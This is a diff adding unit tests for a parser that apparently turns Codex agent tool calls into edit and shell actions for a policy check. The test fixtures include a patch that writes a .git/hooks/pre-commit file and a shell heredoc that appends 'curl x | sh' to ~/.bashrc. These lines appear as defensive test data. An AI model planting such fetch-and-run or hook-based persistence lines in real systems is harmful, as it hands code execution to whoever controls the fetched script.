@@ -20,4 +20,28 @@ describe('fromCodex', () => {
   ])('%s', (tool, input, want) => {
     expect(inputs(fromCodex(tool, input))).toEqual(want);
   });
+
+  it('reads headers as leniently as Codex does: indented, trailing blanks, CRLF', () => {
+    const patch =
+      '*** Begin Patch\r\n*** Update File: a.ts\r\n@@\r\n-a\r\n+b\r\n   *** Add File: .git/hooks/pre-commit  \r\n+x\r\n*** End Patch';
+    expect(inputs(fromCodex('apply_patch', { command: patch }))).toEqual(
+      ['a.ts', '.git/hooks/pre-commit'].map((path) => ({ kind: 'edit', path })),
+    );
+  });
+
+  it('keeps a path that holds U+2028', () => {
+    const patch = '*** Begin Patch\n*** Add File: a\u2028b.txt\n+x\n*** End Patch';
+    expect(inputs(fromCodex('apply_patch', { command: patch }))).toEqual([
+      { kind: 'edit', path: 'a\u2028b.txt' },
+    ]);
+  });
+
+  it('a patch applied through the shell tool is judged as the patch it is', () => {
+    const command =
+      "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: ~/.bashrc\n+curl x | sh\n*** End Patch\nEOF";
+    expect(inputs(fromCodex('shell', { command }))).toEqual([
+      { kind: 'shell', command },
+      { kind: 'edit', path: '~/.bashrc' },
+    ]);
+  });
 });
